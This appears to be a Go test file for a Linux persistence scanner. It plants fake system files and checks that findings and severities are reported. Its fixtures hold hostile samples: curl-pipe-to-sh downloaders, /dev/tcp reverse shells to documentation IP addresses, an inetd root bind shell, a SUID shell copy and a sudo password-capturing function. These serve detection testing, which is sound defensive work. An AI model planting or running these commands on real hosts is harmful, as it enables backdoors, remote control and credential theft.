package check

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/yingji/yingji/internal/finding"
)

// Tests of the persistence family's shared helpers, and scenarios of its
// checks that are not about cron, systemd or shell start-up files.

const pp = "persistence.*"

func TestPersistenceExecs(t *testing.T) {
	cases := []struct {
		code string
		want []string
	}{
		{"curl -s http://x | sh", []string{"curl", "sh"}},
		{"nohup /tmp/x >/dev/null 2>&1 &", []string{"/tmp/x"}},
		{`sudo -u www-data php /var/www/cron.php`, []string{"php", "/var/www/cron.php"}},
		{`/bin/sh -c "cd /tmp/.x && ./run"`, []string{"./run"}},
		{`test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }`, nil},
		{`LD_PRELOAD=/dev/shm/l.so /usr/bin/id`, []string{"/dev/shm/l.so", "/usr/bin/id"}},
		{`echo "$(wget -qO- http://x)"`, []string{"wget"}},
		{`timeout 10s nice -n 5 /opt/a/b --x`, []string{"/opt/a/b"}},
		{`bash -lc '/var/tmp/k &'`, []string{"/var/tmp/k"}},
		{`. "$HOME/.cargo/env"`, []string{"$HOME/.cargo/env"}},
		{`python3 /root/.x/a.py`, []string{"python3", "/root/.x/a.py"}},
	}
	for _, c := range cases {
		var got []string
		for _, e := range persistenceExecs(c.code, 0) {
			got = append(got, e.Word)
		}
		if strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("%q: got %q, want %q", c.code, got, c.want)
		}
	}
	if es := persistenceExecs("/tmp/x &", 0); len(es) != 1 || !es[0].Background {
		t.Errorf("background not seen: %+v", es)
	}
	if es := persistenceExecs(`cd /tmp/.x && ./run`, 0); len(es) != 1 || es[0].Cwd != "/tmp/.x" {
		t.Errorf("cwd not followed: %+v", es)
	}
}

func TestPersistenceHostileInput(t *testing.T) {
	// Unbalanced quotes, substitutions and odd bytes must not panic.
	for _, s := range []string{`"unterminated $(`, "`", "$(", "a'b", "\x00\xff\xfe|&;<>", strings.Repeat("$(", 500), `\`, "trap", "alias =", "f() {"} {
		persistenceExecs(s, 0)
		persistenceSplitShell(s, 0)
		persistenceParseCron(s, true)
		persistenceParseUnit(s)
		persistenceBraceBody(s)
	}
}

func testCertPEM(t *testing.T) string {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: pkix.Name{CommonName: "Totally Legit Root CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour * 24 * 365), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}

func TestPersistenceMiscScenarios(t *testing.T) {
	t.Parallel()
	kernelTree := func(r *testRoot) {
		r.write("lib/modules/6.1.0-18-amd64/modules.dep", "kernel/drivers/net/tun.ko.xz:\nkernel/fs/overlayfs/overlay.ko.xz:\nkernel/net/bridge/br_netfilter.ko.xz: kernel/net/bridge/bridge.ko.xz\n")
		r.write("lib/modules/6.1.0-18-amd64/modules.builtin", "kernel/drivers/block/loop.ko\n")
	}
	runScenarios(t, []scenario{
		// ld.so.preload
		{name: "ld.so.preload unowned library", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/lib/libprocesshider.so", fakeELF("hider"))
			r.write("etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
		}, want: []want{{"persistence.ld_so_preload", "/etc/ld.so.preload"}}},
		{name: "ld.so.preload hard: hidden name, comment, spaces", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ld.so.preload", "# system\n   /lib/x86_64-linux-gnu/.libc.so.6   # keep\n")
		}, want: []want{{"persistence.ld_so_preload", "/etc/ld.so.preload"}}},
		{name: "ld.so.preload benign payload: package library still reported", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libc.so.6\n")
		}, want: []want{{"persistence.ld_so_preload", "/etc/ld.so.preload"}}},
		{name: "benign: empty ld.so.preload with a comment", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ld.so.preload", "# nothing here\n")
		}},
		// ld.so.conf.d
		{name: "ld.so.conf.d temp directory", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ld.so.conf.d/zz.conf", "/dev/shm/.lib\n")
		}, want: []want{{"persistence.ld_so_conf_dir", "/etc/ld.so.conf.d/zz.conf"}}},
		{name: "ld.so.conf.d directory shadowing libc", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ld.so.conf.d/00-local.conf", "/opt/lib\n")
			r.write("opt/lib/libc.so.6", fakeELF("evil libc"))
		}, want: []want{{"persistence.ld_so_conf_dir", "/opt/lib/libc.so.6"}}},
		{name: "ld.so.conf.d hard: libpam dropped into /usr/local/lib of the package config", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/lib/libpam.so.0", fakeELF("evil pam"))
		}, want: []want{{"persistence.ld_so_conf_dir", "/usr/local/lib/libpam.so.0"}}},
		{name: "benign: oracle instant client directory", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ld.so.conf.d/oracle.conf", "/opt/oracle/instantclient_21_1\n")
			r.write("opt/oracle/instantclient_21_1/libclntsh.so.21.1", fakeELF("oracle"))
		}},
		// modprobe.d
		{name: "modprobe install runs a downloader", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/modprobe.d/dccp.conf", "install dccp /bin/sh -c 'curl -s http://198.51.100.9/k | sh'\n")
		}, want: []want{{"persistence.modprobe_install", "/etc/modprobe.d/dccp.conf"}}},
		{name: "modprobe install hard: continuation, real modprobe then hidden program", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/bin/.u", fakeELF("u"))
			r.write("etc/modprobe.d/usb.conf", "install  usb_storage  /sbin/modprobe --ignore-install usb_storage; \\\n   /usr/local/bin/.u &\n")
		}, want: []want{{"persistence.modprobe_install", "/etc/modprobe.d/usb.conf"}}},
		{name: "modprobe install benign payload: unowned logger program", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/sbin/modlog", "#!/bin/sh\necho loaded >> /var/log/mod.log\n")
			r.write("etc/modprobe.d/log.conf", "install tun /usr/local/sbin/modlog; /sbin/modprobe --ignore-install tun\n")
		}, want: []want{{"persistence.modprobe_install", "/etc/modprobe.d/log.conf"}}},
		{name: "benign: modprobe.d blacklist and hardening", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/modprobe.d/cis.conf", "install dccp /bin/true\ninstall sctp /bin/false\nblacklist nouveau\noptions snd-hda-intel power_save=1\n")
		}},
		// modules-load.d
		{name: "modules-load.d loads a module not in the kernel tree", pattern: pp, plant: func(r *testRoot) {
			kernelTree(r)
			r.write("etc/modules-load.d/net.conf", "# net\ntun\ndiamorphine\n")
		}, want: []want{{"persistence.modules_load_unknown", "/etc/modules-load.d/net.conf"}}},
		{name: "modules hard: /etc/modules with a module path in a hidden dir", pattern: pp, plant: func(r *testRoot) {
			kernelTree(r)
			r.appendTo("etc/modules", "/var/lib/.r/reptile.ko\n")
		}, want: []want{{"persistence.modules_load_unknown", "/etc/modules"}}},
		{name: "benign: modules-load.d for containers", pattern: pp, plant: func(r *testRoot) {
			kernelTree(r)
			r.write("etc/modules-load.d/k8s.conf", "overlay\nbr_netfilter\nloop\n")
		}},
		// udev
		{name: "udev RUN from a hidden temp dir", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/udev/rules.d/75-net.rules", "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '/var/tmp/.n/net &'\"\n")
		}, want: []want{{"persistence.udev_rule_run", "/etc/udev/rules.d/75-net.rules"}}},
		{name: "udev hard: bare program name resolved in /usr/lib/udev, unowned", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/lib/udev/ksoftirq", fakeELF("k"), 0o755)
			r.write("etc/udev/rules.d/99-random.rules", "KERNEL==\"random\",RUN+=\"ksoftirq %k\"\n")
		}, want: []want{{"persistence.udev_rule_run", "/etc/udev/rules.d/99-random.rules"}}},
		{name: "benign: udev rule setting permissions", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/udev/rules.d/50-ftdi.rules", "SUBSYSTEM==\"usb\", ATTR{idVendor}==\"0403\", MODE=\"0660\", GROUP=\"dialout\"\n")
		}},
		// motd
		{name: "motd script unowned downloading", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/update-motd.d/30-sysinfo", "#!/bin/sh\n(curl -s http://198.51.100.3/m | sh) >/dev/null 2>&1 &\n", 0o755)
		}, want: []want{{"persistence.motd_script", "/etc/update-motd.d/30-sysinfo"}}},
		{name: "motd script of a package changed", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/update-motd.d/10-uname", "cp /bin/bash /var/tmp/.b; chmod u+s /var/tmp/.b\n")
		}, want: []want{{"persistence.motd_script", "/etc/update-motd.d/10-uname"}}},
		{name: "motd benign payload: unowned banner script", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/update-motd.d/99-banner", "#!/bin/sh\necho 'Authorised use only'\n", 0o755)
		}, want: []want{{"persistence.motd_script", "/etc/update-motd.d/99-banner"}}},
		// Python .pth
		{name: "pth running os.system", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/lib/python3.11/dist-packages/sitecustom.pth", "import os;os.system('curl -s http://198.51.100.4/p|sh &')\n")
		}, want: []want{{"persistence.python_pth", "/usr/local/lib/python3.11/dist-packages/sitecustom.pth"}}},
		{name: "pth hard: base64 exec in a user's site-packages", pattern: pp, plant: func(r *testRoot) {
			r.write("home/debian/.local/lib/python3.11/site-packages/zz_init.pth", "/home/debian/src\nimport\tbase64;exec(base64.b64decode('aW1wb3J0IG9zCg=='))\n")
		}, want: []want{{"persistence.python_pth", "/home/debian/.local/lib/python3.11/site-packages/zz_init.pth"}}},
		{name: "benign: pth adding a path and importing virtualenv", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/lib/python3.11/dist-packages/myproj.pth", "/opt/myproj/src\n")
			r.write("usr/local/lib/python3.11/dist-packages/_virtualenv.pth", "import _virtualenv\n")
		}},
		// sshd
		{name: "sshd AuthorizedKeysFile in a hidden temp file", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ssh/sshd_config.d/50-keys.conf", "AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k\n")
		}, want: []want{{"persistence.sshd_authorized_keys_file", "/etc/ssh/sshd_config.d/50-keys.conf"}}},
		{name: "sshd AuthorizedKeysFile hard: shared file, tab and equals", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/ssh/sshd_config", "authorizedkeysfile\t=\t/etc/ssh/keys\n")
			r.write("etc/ssh/keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker\n")
		}, want: []want{{"persistence.sshd_authorized_keys_file", "/etc/ssh/keys"}}},
		{name: "benign: sshd AuthorizedKeysFile per user", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ssh/sshd_config.d/10.conf", "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2 /etc/ssh/authorized_keys/%u\n")
		}},
		{name: "sshd AuthorizedKeysCommand unowned script", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/local/bin/keys.sh", "#!/bin/sh\ncat /etc/ssh/k\n", 0o755)
			r.write("etc/ssh/sshd_config.d/20.conf", "AuthorizedKeysCommand /usr/local/bin/keys.sh %u\nAuthorizedKeysCommandUser nobody\n")
		}, want: []want{{"persistence.sshd_authorized_keys_command", "/etc/ssh/sshd_config.d/20.conf"}}},
		{name: "sshd ForceCommand in a Match block", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/ssh/sshd_config", "Match User backup\n  ForceCommand /usr/local/bin/log-session\n")
		}, want: []want{{"persistence.sshd_force_command", "/etc/ssh/sshd_config"}}},
		{name: "sshd ForceCommand hard: wraps the session through a temp program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ssh/sshd_config.d/99.conf", "ForceCommand /dev/shm/.w $SSH_ORIGINAL_COMMAND\n")
		}, want: []want{{"persistence.sshd_force_command", "/etc/ssh/sshd_config.d/99.conf"}}},
		{name: "benign: sftp chroot group", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/ssh/sshd_config", "Match Group sftponly\n  ChrootDirectory %h\n  ForceCommand internal-sftp\n  AllowTcpForwarding no\n")
		}},
		{name: "sshd PermitUserEnvironment with LD_PRELOAD", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ssh/sshd_config.d/30.conf", "PermitUserEnvironment yes\n")
			r.write("root/.ssh/environment", "LD_PRELOAD=/tmp/.x.so\n")
		}, want: []want{{"persistence.sshd_user_environment", "/etc/ssh/sshd_config.d/30.conf"}, {"persistence.sshd_user_environment", "/root/.ssh/environment"}}},
		{name: "sshd SetEnv LD_PRELOAD", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/ssh/sshd_config", "SetEnv LD_PRELOAD=/usr/lib/libsnoopy.so\n")
		}, want: []want{{"persistence.sshd_user_environment", "/etc/ssh/sshd_config"}}},
		{name: "sshd Match User loosening", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("etc/ssh/sshd_config", "Match User support Address 203.0.113.0/24\n    PasswordAuthentication yes\n    PermitRootLogin yes\n")
		}, want: []want{{"persistence.sshd_match_user", "/etc/ssh/sshd_config"}}},
		{name: "ssh rc running a temp program", pattern: pp, plant: func(r *testRoot) {
			r.write("root/.ssh/rc", "#!/bin/sh\n/tmp/.r >/dev/null 2>&1 &\n")
		}, want: []want{{"persistence.ssh_rc", "/root/.ssh/rc"}}},
		{name: "ssh rc benign payload: /etc/ssh/sshrc xauth", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/ssh/sshrc", "if read proto cookie && [ -n \"$DISPLAY\" ]; then echo add $DISPLAY $proto $cookie | xauth -q -; fi\n")
		}, want: []want{{"persistence.ssh_rc", "/etc/ssh/sshrc"}}},
		{name: "sshd binary replaced", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/sbin/sshd", fakeELF("trojan sshd with magic password"), 0o755)
		}, want: []want{{"persistence.sshd_binary_modified", "/usr/sbin/sshd"}}},
		{name: "sshd-session unowned", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/lib/openssh/sshd-session", fakeELF("session"), 0o755)
		}, want: []want{{"persistence.sshd_binary_modified", "/usr/lib/openssh/sshd-session"}}},
		// inetd / xinetd
		{name: "inetd bind shell", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/inetd.conf", "# services\n31337 stream tcp nowait root /bin/sh sh -i\n")
		}, want: []want{{"persistence.inetd_service", "/etc/inetd.conf"}}},
		{name: "xinetd unowned server", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/local/bin/sysmond", fakeELF("sysmond"), 0o755)
			r.write("etc/xinetd.d/sysmon", "service sysmon\n{\n  socket_type = stream\n  wait = no\n  user = root\n  server = /usr/local/bin/sysmond\n  port = 8899\n  disable = no\n}\n")
		}, want: []want{{"persistence.inetd_service", "/etc/xinetd.d/sysmon"}}},
		{name: "benign: disabled xinetd service", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/xinetd.d/echo", "service echo\n{\n  type = INTERNAL\n  socket_type = stream\n  server = /bin/sh\n  disable = yes\n}\n")
		}},
		// CA certificates
		{name: "rogue CA certificate", pattern: pp, plant: func(r *testRoot) {
			r.write("usr/local/share/ca-certificates/corp-root.crt", testCertPEM(r.t))
		}, want: []want{{"persistence.rogue_ca_cert", "/usr/local/share/ca-certificates/corp-root.crt"}}},
		{name: "rogue CA hard: RHEL anchors, garbage content", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/pki/ca-trust/source/anchors/x.pem", "not a certificate\n")
		}, want: []want{{"persistence.rogue_ca_cert", "/etc/pki/ca-trust/source/anchors/x.pem"}}},
		// static pods
		{name: "static pod privileged host root", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/kubernetes/manifests/node-agent.yaml", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: node-agent\nspec:\n  hostPID: true\n  hostNetwork: true\n  containers:\n  - name: a\n    image: alpine:3.19\n    command: [\"nsenter\", \"-t\", \"1\", \"-m\", \"sh\"]\n    securityContext:\n      privileged: true\n    volumeMounts:\n    - mountPath: /host\n      name: root\n  volumes:\n  - name: root\n    hostPath:\n      path: /\n")
		}, want: []want{{"persistence.k8s_static_pod", "/etc/kubernetes/manifests/node-agent.yaml"}}},
		{name: "static pod hard: JSON, registry by IP, staticPodPath elsewhere", pattern: pp, plant: func(r *testRoot) {
			r.write("var/lib/kubelet/config.yaml", "kind: KubeletConfiguration\nstaticPodPath: /etc/kubelet.d\n")
			r.write("etc/kubelet.d/cache.json", "{\"kind\": \"Pod\", \"spec\": {\"containers\": [{\n \"image\": \"10.0.0.5:5000/cache:latest\"\n}]}}\n")
		}, want: []want{{"persistence.k8s_static_pod", "/etc/kubelet.d/cache.json"}}},
		{name: "benign: kube-apiserver static pod", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/kubernetes/manifests/kube-apiserver.yaml", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: kube-apiserver\n  namespace: kube-system\nspec:\n  containers:\n  - command:\n    - kube-apiserver\n    - --advertise-address=10.0.0.10\n    image: registry.k8s.io/kube-apiserver:v1.29.2\n    name: kube-apiserver\n    volumeMounts:\n    - mountPath: /etc/kubernetes/pki\n      name: k8s-certs\n      readOnly: true\n  hostNetwork: true\n  priorityClassName: system-node-critical\n  volumes:\n  - hostPath:\n      path: /etc/kubernetes/pki\n      type: DirectoryOrCreate\n    name: k8s-certs\n")
		}},
		// package manager hooks
		{name: "apt hook downloads", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/apt/apt.conf.d/01update", "APT::Update::Pre-Invoke {\"curl -s http://198.51.100.5/a | sh\";};\n")
		}, want: []want{{"persistence.apt_hook", "/etc/apt/apt.conf.d/01update"}}},
		{name: "apt hook hard: hidden helper, odd case and layout", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/share/.apt/helper", fakeELF("helper"), 0o755)
			r.write("etc/apt/apt.conf.d/99z", "// tidy\ndpkg::post-invoke\n{\n    \"/usr/share/.apt/helper || true\";\n};\n")
		}, want: []want{{"persistence.apt_hook", "/etc/apt/apt.conf.d/99z"}}},
		{name: "yum post-action", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/yum/post-actions/x.action", "*:any:/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.8/443 0>&1'\n")
		}, want: []want{{"persistence.apt_hook", "/etc/yum/post-actions/x.action"}}},
		{name: "benign: docker-clean apt hook", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/bin/rm", fakeELF("rm"), 0o755)
			r.own("coreutils", "usr/bin/rm")
			r.write("etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nDir::Cache::pkgcache \"\";\n")
		}},
		// network hooks
		{name: "if-up.d script unowned", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/network/if-up.d/upd", "#!/bin/sh\n/usr/bin/sleep 1\n", 0o755)
		}, want: []want{{"persistence.network_hook_script", "/etc/network/if-up.d/upd"}}},
		{name: "NetworkManager dispatcher reverse shell", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/NetworkManager/dispatcher.d/99-x", "#!/bin/bash\n[ \"$2\" = up ] && bash -c 'exec 5<>/dev/tcp/203.0.113.9/8443; cat <&5 | bash >&5 2>&5' &\n", 0o755)
		}, want: []want{{"persistence.network_hook_script", "/etc/NetworkManager/dispatcher.d/99-x"}}},
		{name: "interfaces post-up hidden temp program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/network/interfaces", "auto eth0\niface eth0 inet dhcp\n    post-up /tmp/.n/up &\n")
		}, want: []want{{"persistence.network_hook_script", "/etc/network/interfaces"}}},
		{name: "benign: interfaces with a route", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/network/interfaces", "auto eth0\niface eth0 inet static\n  address 10.0.0.5/24\n  up ip route add 10.1.0.0/16 via 10.0.0.1\n")
		}},
	})
}

// TestPersistenceSeverities pins the severity of a few findings.
func TestPersistenceSeverities(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name  string
		plant func(r *testRoot)
		rule  string
		sev   finding.Severity
	}{
		{"preload in temp is critical", func(r *testRoot) { r.write("etc/ld.so.preload", "/tmp/l.so\n") }, "persistence.ld_so_preload", finding.Critical},
		{"preload of package lib is high", func(r *testRoot) { r.write("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libc.so.6\n") }, "persistence.ld_so_preload", finding.High},
		{"sshd replaced is critical", func(r *testRoot) { r.writeMode("usr/sbin/sshd", fakeELF("x"), 0o755) }, "persistence.sshd_binary_modified", finding.Critical},
		{"inetd shell is critical", func(r *testRoot) { r.write("etc/inetd.conf", "9 stream tcp nowait root /bin/bash bash -i\n") }, "persistence.inetd_service", finding.Critical},
		{"root crontab is medium", func(r *testRoot) {
			r.write("var/spool/cron/crontabs/root", "0 3 * * * /usr/bin/sleep 1\n")
		}, "persistence.cron_user_privileged", finding.Medium},
		{"sudo password capture is critical", func(r *testRoot) {
			r.appendTo("home/debian/.bashrc", "sudo() { read -s -p \"[sudo] password for $USER: \" pw; echo \"$pw\" >> /var/tmp/.p; echo; command sudo \"$@\"; }\n")
		}, "persistence.shell_function_override", finding.Critical},
		{"pth exec of readable code is medium", func(r *testRoot) {
			r.write("usr/local/lib/python3.11/dist-packages/x.pth", "import os;exec('print(1)')\n")
		}, "persistence.python_pth", finding.Medium},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := newRoot(t)
			c.plant(r)
			var got []finding.Severity
			for _, f := range r.scan(pp) {
				if f.Rule == c.rule {
					got = append(got, f.Severity)
				}
			}
			if len(got) == 0 || got[0] != c.sev {
				t.Errorf("%s: severities %v, want %s", c.rule, got, c.sev)
			}
		})
	}
}
